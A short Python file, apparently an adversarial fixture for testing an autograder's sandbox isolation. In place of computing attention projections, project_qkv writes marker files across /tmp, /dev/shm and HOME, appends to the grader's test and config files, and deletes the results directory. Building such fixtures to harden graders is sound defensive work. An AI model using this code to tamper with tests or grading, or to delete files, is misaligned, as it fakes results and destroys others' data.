"""Attack: write files outside the worker's copy — into the repository's tests and
solutions, the submission folder, /tmp, /dev/shm, HOME — and delete what it can."""
import os
import shutil

import torch

TARGETS = [
    "/tmp/autograder-pwned.txt", "/dev/shm/autograder-pwned.txt", "/var/tmp/autograder-pwned.txt",
    os.path.expanduser("~/autograder-pwned.txt"),
]


def _vandalise():
    written = []
    here = os.path.dirname(os.path.abspath(__file__))
    for path in TARGETS + [os.path.join(here, "pwned.py"), os.path.join(here, "..", "pwned.txt")]:
        try:
            with open(path, "w") as fh:
                fh.write("pwned")
            written.append(path)
        except OSError:
            pass
    for start in ("/work", "/autograder/source", os.path.expanduser("~")):
        for dirpath, dirnames, filenames in os.walk(start):
            if dirpath.count(os.sep) > 6:
                dirnames[:] = []
            for name in filenames:
                if name in ("grading.toml", "qkv.py") or name.startswith("test_qkv"):
                    path = os.path.join(dirpath, name)
                    try:
                        with open(path, "a") as fh:
                            fh.write("\n# pwned\n")
                        written.append(path)
                    except OSError:
                        pass
    try:
        shutil.rmtree("/autograder/results")
    except OSError:
        pass
    return written


def project_qkv(x, w_q, w_k, w_v):
    written = _vandalise()
    raise RuntimeError(f"wrote: {written}")
